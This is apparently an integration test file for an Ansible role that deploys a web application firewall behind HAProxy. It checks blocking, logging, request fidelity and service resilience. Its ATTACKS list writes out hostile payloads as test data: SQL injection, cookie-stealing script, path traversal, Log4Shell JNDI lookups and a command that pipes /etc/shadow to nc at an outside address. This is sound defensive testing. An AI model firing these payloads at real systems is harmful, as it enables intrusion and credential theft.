# Copyright (c) 2026, The Longshore founders
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What a user of the role was promised, seen from a client that stands outside."""

from __future__ import annotations

import hashlib
import json
import subprocess
from typing import Any
from urllib.parse import quote

import pytest
from asking import LAB, SCENARIO, Client, Request, converge, document, form, lab, wait_for

testinfra_hosts = ["ansible://app1"]
UNIT = "longshore-waf"
AUDIT = "/var/log/longshore-waf/audit.log"
INJECTION = "1' OR '1'='1' UNION SELECT name, password FROM users-- "
SCRIPT = "<script>alert(document.cookie)</script>"
# One of each kind, wherever a request can carry it.
ATTACKS = [
    Request(f"/?id={quote(INJECTION)}"),
    Request(f"/?q={quote(SCRIPT)}"),
    Request("/?file=" + quote("../../../../etc/passwd")),
    Request("/?a=" + quote("${jndi:ldap://203.0.113.9/a}")),
    Request("/?cmd=" + quote("; cat /etc/shadow | nc 203.0.113.9 99")),
    Request("/", headers=(("X-Api-Version", "${jndi:ldap://203.0.113.9/a}"),)),
    Request("/", headers=(("Cookie", f"id={quote(INJECTION)}"),)),
    Request("/?q=" + quote("<?php system($_GET['c']); ?>")),
    form("/login", user=INJECTION, password="x"),
    document("/api/search", {"filter": {"name": INJECTION}}),
    document("/api/search", {"filter": {"name": SCRIPT}}, "PATCH"),
]
MARKDOWN = """# What's new in "Shop 2"

It's *faster* -- see [the list](https://shop.example/new?page=2&sort=name) & tell us what you think!

    total = price * 1.19;  # with tax

> "Don't panic", she said; 5 > 3, and 10% of <https://shop.example> don't like `code`.
"""
BOUNDARY = "----formboundary7MA4YWxkTrZu0gW"
UPLOAD = (
    f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="title"\r\n\r\nA picture of Anne\'s house\r\n'
    f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="house.csv"\r\nContent-Type: text/csv\r\n'
    f"\r\nid,name\r\n1,O'Brien\r\n\r\n--{BOUNDARY}--\r\n"
)
ORDINARY = [
    Request("/"),
    Request("/search?q=O%27Brien+%26+sons&page=2&sort=name"),
    Request("/a/b.html", headers=(("Accept-Language", "de,en;q=0.5"), ("Cookie", "session=3f2a9c77; theme=dark"))),
    document("/api/orders", {"name": "Sean O'Brien", "items": [{"id": 1, "text": 'says "hello"'}], "note": None}),
    document("/api/orders/1", {"price": 12.5, "tags": ["a & b", "c/d"]}, "PUT"),
    document("/api/orders/1", {"html": "plain"}, "PATCH"),
    Request("/api/orders/1", "DELETE"),
    Request("/api/orders", "OPTIONS", (("Origin", "https://shop.example"), ("Access-Control-Request-Method", "POST"))),
    form("/articles", title='It\'s "new"', text=MARKDOWN),
    Request("/upload", "POST", (("Content-Type", f"multipart/form-data; boundary={BOUNDARY}"),), UPLOAD),
]


@pytest.fixture(scope="module")
def client() -> Client:
    found = Client(json.loads(lab("status", "--name", LAB, "--json")))
    wait_for(lambda: found.statuses("plain.example", Request("/")) == [200])
    return found


def access(host: Any, path: str) -> list[dict[str, Any]]:
    """The lines of the access log about a path."""
    lines = host.check_output("journalctl -u longshore-haproxy -o cat -n 2000").splitlines()
    found = [json.loads(line[line.index("{") :]) for line in lines if f'"uri": "{path}' in line]
    return [entry for entry in found if entry["uri"] == path]


def judged(host: Any, path: str) -> str:
    """What the access log says of the newest request for a path."""
    return str(wait_for(lambda: access(host, path))[-1]["waf"])


def findings(host: Any, uri: str) -> list[dict[str, Any]]:
    """What the firewall's own log has of requests for a URI."""
    lines = host.check_output(f"cat {AUDIT}").splitlines()
    entries = [json.loads(line)["transaction"] for line in lines if line.startswith("{")]
    return [entry for entry in entries if entry["request"]["uri"] == uri]


def test_attacks_are_refused_and_ordinary_requests_are_not(client: Client) -> None:
    assert client.statuses("block.example", *ATTACKS) == [403] * len(ATTACKS)
    assert client.statuses("block.example", *ORDINARY) == [200] * len(ORDINARY)


def test_what_is_detected_is_served_and_told(host: Any, client: Client) -> None:
    assert client.statuses("detect.example", *ATTACKS) == [200] * len(ATTACKS)
    path = f"/told?id={quote(INJECTION)}"
    answer = json.loads(client.ask("detect.example", Request(path))[0][1])
    assert answer["path"] == path
    assert judged(host, path) == "detected"
    entry = wait_for(lambda: findings(host, path))[-1]
    assert entry["client_ip"] == client.own["v4"]
    # The number by which HAProxy and the application know the request.
    assert entry["unique_id"] == answer["headers"]["x-request-id"]
    assert "942100" in {message["details"]["ruleId"] for message in entry["messages"]}
    assert client.statuses("block.example", Request(path), Request("/passed")) == [403, 200]
    assert judged(host, path) == "blocked"
    assert judged(host, "/passed") == "passed"
    # Elsewhere nothing is asked.
    assert client.statuses("plain.example", Request("/plain?id=" + quote(INJECTION))) == [200]
    assert judged(host, "/plain?id=" + quote(INJECTION)) == ""


def test_a_policy_has_its_own_strictness(client: Client) -> None:
    # What the second level of the core rules objects to.
    odd = Request("/?q=" + quote("a'; -- b"))
    assert client.statuses("strict.example", Request("/"), odd) == [200, 403]
    assert client.statuses("block.example", odd) == [200]


def test_what_is_left_out_is_not_looked_at(client: Client) -> None:
    only_100 = "1' and 1=1 or '1"
    assert client.statuses(
        "block.example",
        Request(f"/notes?note={quote(only_100)}"),
        document("/notes/1", {"note": only_100}),
        Request(f"/notes?other={quote(only_100)}"),
        Request(f"/notesx?note={quote(only_100)}"),
        Request(f"/shell?x={quote(INJECTION)}"),
        Request(f"/shell/below?x={quote(SCRIPT)}"),
        Request(f"/anywhere?free={quote(INJECTION)}"),
        Request(f"/raw/x?x={quote(INJECTION + SCRIPT)}"),
    ) == [200, 200, 403, 403, 200, 403, 200, 200]


def test_client_headers_and_bodies_are_what_they_were(client: Client) -> None:
    """A request that is judged arrives like one that is not, by both families of addresses."""
    big = "text=" + "a" * 3_000_000
    request = Request(
        "/same//path/%7Ea?x=%20y",
        "POST",
        (("Content-Type", "application/x-www-form-urlencoded"), ("X-Odd", " a,b ")),
        big,
    )
    for family in ("v4", "v6"):
        got = []
        for name in ("plain.example", "block.example"):
            status, text = client.ask(name, request, family=family)[0]
            assert status == 200
            told = json.loads(text)
            assert told["headers"]["x-forwarded-for"] == client.own[family]
            assert told["body"] == hashlib.sha256(big.encode()).hexdigest()
            for own in ("host", "x-forwarded-host", "x-request-id", "forwarded"):
                told["headers"].pop(own)
            got.append(told)
        assert got[0] == got[1]
    # A client can't choose who judges him, or speak for another one.
    mine = (
        ("X-Longshore-Waf-Policy", "none"),
        ("X-Longshore-Waf-Client", "192.0.2.1"),
        ("X-Longshore-Waf-Partial", "1"),
    )
    assert client.statuses("block.example", Request(f"/?id={quote(INJECTION)}", headers=mine)) == [403]


def test_the_beginning_of_a_large_body_is_judged(client: Client) -> None:
    padding = "a" * 30_000
    assert client.statuses(
        "block.example",
        form("/", a=padding, b=INJECTION),
        form("/", b=INJECTION, a="a" * 1_000_000),
        document("/", {"b": INJECTION, "a": "a" * 1_000_000}),
        document("/", {"a": "a" * 1_000_000}),
        Request("/", "PUT", (("Content-Type", "application/octet-stream"),), "\x00\x01" * 500_000),
    ) == [403, 403, 403, 200, 200]


def test_streams_sockets_and_slow_answers_go_on(client: Client) -> None:
    server = client.server["v4"]
    curl = ["curl", "-s", "-m", "30", "-A", "Mozilla/5.0", "-H", "Host: block.example"]
    # A body without a length, in chunks, and one that waits for a word.
    chunked = client.run(
        *curl, "-H", "Transfer-Encoding: chunked", "-H", "Expect: 100-continue", "-H", "Content-Type: text/plain",
        "--data-binary", "@-", f"http://{server}/chunks", stdin="b" * 900_000,
    )  # fmt: skip
    assert json.loads(chunked)["body"] == hashlib.sha256(b"b" * 900_000).hexdigest()
    # Two slow answers on one connection.
    twice = client.run(*curl, "-w", " %{http_code} %{num_connects}\n", *[f"http://{server}/slow"] * 2)
    assert [line.split()[-2:] for line in twice.splitlines() if line] == [["200", "1"], ["200", "0"]]
    talk = (SCENARIO.parent / "haproxy/files/talk.py").read_text()
    assert client.run("python3", "-c", talk, server, "block.example", stdin="one line\n") == "one line\n"


def test_it_is_shut_in(host: Any) -> None:
    score = host.check_output(f"systemd-analyze security --no-pager {UNIT}.service").splitlines()[-1]
    assert float(next(word for word in score.split() if word[0].isdigit())) <= 3.0, score
    assert host.service(UNIT).is_enabled
    # The package's own instance does not take HAProxy's port.
    assert host.check_output("systemctl is-enabled nginx.service || true") == "masked"


def test_killed_and_reloaded_under_load_it_costs_no_request(host: Any, client: Client) -> None:
    words = [
        "python3",
        "/opt/lab/load.py",
        f"http://{client.server['v4']}/load",
        "--rate",
        "100",
        "--host",
        "block.example",
    ]
    load = subprocess.Popen(["docker", "exec", client.container, *words], stdout=subprocess.PIPE, text=True)
    try:
        wait_for(lambda: access(host, "/load"))
        before = host.check_output(f"systemctl show -p MainPID --value {UNIT}")
        host.check_output(f"systemctl reload {UNIT}")
        host.check_output(f"systemctl kill --signal=KILL {UNIT}")
        wait_for(lambda: judged(host, "/load") == "failed")
        # What nobody can judge passes, or does not, as the route says.
        host.check_output(f"systemctl stop {UNIT}")
        assert client.statuses("block.example", Request(f"/?id={quote(INJECTION)}"), Request("/refuse")) == [200, 503]
        host.check_output(f"systemctl start {UNIT}")
        wait_for(
            lambda: (
                client.statuses("block.example", Request(f"/?id={quote(INJECTION)}"), Request("/refuse")) == [403, 200]
            )
        )
        assert host.check_output(f"systemctl show -p MainPID --value {UNIT}") != before
    finally:
        subprocess.run(["docker", "exec", client.container, "pkill", "-TERM", "-f", "load.py"], check=False)
        report = json.loads(load.communicate(timeout=60)[0])
    assert report["total"] > 0
    assert report["statuses"] == {"200": report["total"]}, report


def test_rules_that_are_no_rules_change_nothing(host: Any, client: Client) -> None:
    own = 'SecRule ARGS:magic "@streq abracadabra" "id:1001,phase:2,deny,status:403,msg:\'No magic\'"'
    assert converge(rules=own).returncode == 0
    magic = Request("/?magic=abracadabra")
    wait_for(lambda: client.statuses("block.example", magic) == [403])
    before = host.check_output("sha256sum /etc/longshore/molecule/waf.conf")
    done = converge(rules=own + '\nSecRule ARGS "@nonsense')
    assert done.returncode != 0
    assert "/etc/longshore/molecule/waf.conf was left as it is" in done.stdout + done.stderr
    assert host.check_output("sha256sum /etc/longshore/molecule/waf.conf") == before
    host.check_output(f"systemctl reload {UNIT}")
    wait_for(lambda: client.statuses("block.example", magic) == [403])
    foreseen = converge("--check")
    assert '"changed": true' in foreseen.stdout
    assert host.check_output("sha256sum /etc/longshore/molecule/waf.conf") == before
    assert converge().returncode == 0
    wait_for(lambda: client.statuses("block.example", magic) == [200])
